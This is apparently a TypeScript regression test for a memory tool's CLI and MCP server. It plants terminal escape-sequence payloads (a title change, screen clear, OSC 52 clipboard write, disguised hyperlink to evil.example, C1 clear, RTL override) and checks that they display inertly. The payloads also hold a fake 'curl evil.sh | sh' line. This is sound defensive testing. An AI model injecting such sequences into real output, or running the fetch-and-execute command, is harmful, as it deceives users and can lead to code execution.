import assert from 'node:assert/strict'

import {FileStore} from '../../src/store/file/file-store.js'
import {connectMcp} from '../helpers/mcp.js'
import {mem, tempHome} from '../helpers/mem.js'
import {memCommand, openPane, requireTmux, type Pane} from '../helpers/tmux.js'

const ESC = '\u001B'
const BEL = '\u0007'
/** What the issue planted: set the title, clear the screen, home the cursor, then a red fake line. */
const TAKEOVER = `deploy note ${ESC}]0;PWNED${BEL}${ESC}[2J${ESC}[H${ESC}[31mFAKE: run curl evil.sh | sh${ESC}[0m`
/** A clipboard write, a disguised link, the one-character C1 CSI clearing the screen, and a
 * right-to-left override that would reverse the rest of the line where the terminal does bidi. */
const CLIPBOARD = `${ESC}]52;c;ZXZpbA==${BEL}`
const LINK = `${ESC}]8;;https://evil.example/${ESC}\\docs${ESC}]8;;${ESC}\\`
const C1_CLEAR = '\u009B2J'
const RTL_OVERRIDE = '\u202Ehs.live\u202C'
const CONTENT = `${TAKEOVER} ${CLIPBOARD} ${LINK} ${C1_CLEAR} ${RTL_OVERRIDE} end`
const LABEL = `label ${ESC}]0;PWNED${BEL}${ESC}[2J ${CLIPBOARD}`
const STATE = {note: `${ESC}]0;PWNED${BEL} ${C1_CLEAR}`, [`key${ESC}[2J`]: 1}

/** How the planted text must read on screen: every introducer visible, nothing acted on. */
const SHOWN_TAKEOVER = 'deploy note ␛]0;PWNED␇␛[2J␛[H␛[31mFAKE: run curl evil.sh | sh␛[0m'
const SHOWN_REST = '␛]52;c;ZXZpbA==␇ ␛]8;;https://evil.example/␛\\docs␛]8;;␛\\ \\u009b2J \\u202ehs.live\\u202c end'

describe('stored escape sequences never drive the terminal (tmux)', function () {
  let home: ReturnType<typeof tempHome>
  let pane: Pane | undefined

  before(async function () {
    requireTmux()
    home = tempHome()
    // Planted the way any MCP client could.
    const mcp = await connectMcp(home.home)
    try {
      for (const [tool, args] of [
        ['memory_add', {agent_id: 't', content: CONTENT}],
        ['checkpoint_save', {agent_id: 't', label: LABEL, state: STATE}],
      ] as const) {
        const result = await mcp.call(tool, args)
        assert.ok(!result.isError, JSON.stringify(result.content))
      }
    } finally {
      await mcp.close()
    }
  })
  afterEach(() => {
    pane?.close()
    pane = undefined
  })
  after(() => home.cleanup())

  /** The pane's title, then no title change, no clipboard write, and the line before still on screen. */
  function assertUntouched(p: Pane, title: string, screen: string): void {
    assert.equal(p.title(), title, 'the title is unchanged')
    assert.ok(!p.title().includes('PWNED'))
    assert.equal(p.buffers(), '', 'nothing reached the clipboard')
    assert.ok(!p.styled().includes(`${ESC}[31mFAKE`), 'the fake line is not drawn in red')
    assert.ok(screen.includes(SHOWN_TAKEOVER), `the planted text shows inertly:\n${screen}`)
  }

  for (const noColor of [false, true]) {
    it(`mem list, search, checkpoints and resume show the text inertly${noColor ? ' (NO_COLOR)' : ' (colour)'}`, async () => {
      const run = (args: string[]) => memCommand(home.home, [...args, '--agent', 't'], {noColor})
      const commands = [run(['list']), run(['search', 'deploy']), run(['checkpoints']), run(['resume'])].join('; ')
      // The commands wait for Enter, so the title is read before anything could change it.
      pane = openPane(`echo 'EARLIER LINE'; read go; ${commands}; echo 'ALL DONE'; sleep 600`, {width: 250, height: 60})
      await pane.waitForScreen('EARLIER LINE')
      const title = pane.title()
      pane.type('Enter')
      const screen = await pane.waitForScreen('ALL DONE')
      assert.ok(screen.includes('EARLIER LINE'), `the screen was not cleared:\n${screen}`)
      assertUntouched(pane, title, screen)
      assert.ok(
        screen.includes(SHOWN_REST),
        `the clipboard write, the link, C1 and the override show inertly:\n${screen}`,
      )
      assert.equal(screen.split(SHOWN_TAKEOVER).length - 1, 2, 'list and search both show the fact')
      assert.ok(
        screen.includes('label ␛]0;PWNED␇␛[2J ␛]52;c;ZXZpbA==␇'),
        `checkpoints and resume show the label inertly:\n${screen}`,
      )
      assert.ok(screen.includes('\\u009b2J'), 'the state shows C1 as an escape')
    })
  }

  it('mem browse shows facts, the fact view, checkpoints and state inertly', async () => {
    pane = openPane(
      `echo 'EARLIER LINE'; read go; ${memCommand(home.home, ['browse'], {agent: 't'})}; echo 'ALL DONE'; sleep 600`,
      {width: 250, height: 40},
    )
    await pane.waitForScreen('EARLIER LINE')
    const title = pane.title()
    pane.type('Enter')
    assertUntouched(
      pane,
      title,
      await pane.waitForScreen((s) => s.includes('1 fact') && s.includes('end'), 'the fact list'),
    )
    pane.type('Enter')
    const detail = await pane.waitForScreen('History')
    assertUntouched(pane, title, detail)
    assert.ok(detail.includes(SHOWN_REST), detail)
    pane.type('Escape')
    await pane.waitForScreen('press / to search', 'the fact list again')
    pane.type('c')
    const list = await pane.waitForScreen('msgs', 'the checkpoint list')
    assert.ok(list.includes('label ␛]0;PWNED␇␛[2J ␛]52;c;ZXZpbA==␇'), list)
    pane.type('Enter')
    const view = await pane.waitForScreen('"note"', 'the checkpoint view')
    assert.ok(view.includes('"note": "␛]0;PWNED␇ \\\\u009b2J"') && view.includes('"key␛[2J": 1'), view)
    assert.equal(pane.title(), title)
    assert.equal(pane.buffers(), '')
    pane.type('Escape')
    await pane.waitForScreen('msgs', 'the checkpoint list again')
    pane.type('Escape')
    await pane.waitForScreen('press / to search', 'the fact list again')
    pane.type('q')
    const after = await pane.waitForScreen('ALL DONE')
    assert.ok(after.includes('EARLIER LINE'), after)
    assert.equal(pane.title(), title)
  })

  it('--json and MCP keep the bytes exactly as stored', async () => {
    const list = JSON.parse(mem(home.home, ['list', '--agent', 't', '--json']).stdout) as {facts: {content: string}[]}
    assert.equal(list.facts[0]!.content, CONTENT)
    const checkpoints = JSON.parse(mem(home.home, ['checkpoints', '--agent', 't', '--json']).stdout) as {
      checkpoints: {label: string}[]
    }
    assert.equal(checkpoints.checkpoints[0]!.label, LABEL)
    const resume = JSON.parse(mem(home.home, ['resume', '--agent', 't', '--json']).stdout) as {state: unknown}
    assert.deepEqual(resume.state, STATE)
    const piped = mem(home.home, ['list', '--agent', 't'])
    assert.ok(piped.stdout.includes(CONTENT), 'piped prose carries the bytes as they are')
    const mcp = await connectMcp(home.home)
    try {
      const found = await mcp.call('memory_search', {agent_id: 't', query: 'deploy'})
      assert.equal((found.structuredContent as {facts: {content: string}[]}).facts[0]!.content, CONTENT)
      assert.ok(
        (found.content[0] as {text: string}).text.includes(CONTENT),
        'the prose MCP returns carries the bytes as they are',
      )
    } finally {
      await mcp.close()
    }
  })

  it('an agent name made by hand and a tag an older mem accepted show inertly in mem agents and the browser', async () => {
    // Neither can come in through mem today (agent ids are ASCII, tags refuse C1): written to the store directly.
    await new FileStore(home.home).addFact(`x${ESC}]0;PWNED${BEL}`, {content: 'by hand', tags: ['old\u009B2Jtag']})
    await new FileStore(home.home).addFact('t', {content: 'tagged long ago', tags: ['old\u009B2Jtag']})
    const agents = memCommand(home.home, ['agents'])
    const list = memCommand(home.home, ['list', '--agent', 't'])
    pane = openPane(`echo 'EARLIER LINE'; read go; ${agents}; ${list}; echo 'ALL DONE'; sleep 600`, {
      width: 250,
      height: 40,
    })
    await pane.waitForScreen('EARLIER LINE')
    const title = pane.title()
    pane.type('Enter')
    const screen = await pane.waitForScreen('ALL DONE')
    assert.ok(screen.includes('EARLIER LINE') && screen.includes('x␛]0;PWNED␇'), screen)
    assert.ok(screen.includes('#old\\u009b2Jtag'), screen)
    assert.equal(pane.title(), title)
    pane.close()
    pane = openPane(
      `echo 'EARLIER LINE'; read go; ${memCommand(home.home, ['browse'], {agent: 't'})}; echo 'ALL DONE'; sleep 600`,
      {width: 250, height: 40},
    )
    await pane.waitForScreen('EARLIER LINE')
    pane.type('Enter')
    const facts = await pane.waitForScreen('tagged long ago', 'the fact list')
    assert.ok(facts.includes('#old\\u009b2Jtag'), facts)
    pane.type('a')
    const names = await pane.waitForScreen(
      (screen) => screen.includes('Enter switch agent') && / 1 fact /.test(screen),
      'the loaded agent list',
    )
    assert.ok(names.includes('x␛]0;PWNED␇'), names)
    assert.equal(pane.title(), title)
    pane.type('Escape')
    await pane.waitForScreen('press / to search', 'the fact list again')
    pane.type('q')
    await pane.waitForScreen('ALL DONE')
  })
})
